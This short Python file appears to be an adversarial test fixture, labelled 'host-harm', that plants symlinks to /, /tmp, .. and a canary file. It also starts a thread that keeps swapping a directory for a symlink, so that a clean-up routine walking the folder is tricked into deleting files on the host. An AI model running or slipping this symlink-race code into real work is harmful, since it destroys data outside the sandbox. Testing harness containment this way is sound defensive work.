# host-harm; canary tmp alive; symbolic links and hard links where the clean-up will walk
import os
for target, name in (("/tmp", "a"), ("/", "b"), ("..", "c"), ("/tmp/rh_canary", "d"), (".", "e")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
try:
    os.link("/tmp/rh_canary", "f")
except OSError:
    pass
def swap():
    while True:
        try:
            os.mkdir("g"); os.rmdir("g"); os.symlink("/tmp", "g"); os.remove("g")
        except OSError:
            pass
import threading
threading.Thread(target=swap, daemon=True).start()

def steps(n):
    return -1
